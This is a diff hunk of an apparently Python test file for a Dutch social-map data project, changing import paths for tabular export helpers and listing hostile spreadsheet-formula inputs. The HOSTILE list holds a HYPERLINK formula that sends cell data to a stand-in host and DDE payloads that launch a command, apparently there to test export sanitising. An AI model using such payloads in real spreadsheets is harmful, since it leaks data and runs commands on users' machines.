@@ -20,8 +20,8 @@ from armoedegraaf.cli import cli
 from armoedegraaf.settings import PROJECT_ROOT, Settings
 from graph.export import to_graphml
 from loaders.pipeline import build_graph
-from loaders.tabular import read_extra, row_errors
-from loaders.tabular_export import export_csv, export_tables, export_xlsx
+from loaders.sociale_kaart.tables import read_extra, row_errors
+from loaders.sociale_kaart.export import export_csv, export_tables, export_xlsx
 
 SOURCES = PROJECT_ROOT / "data" / "sources"
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Klik")', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
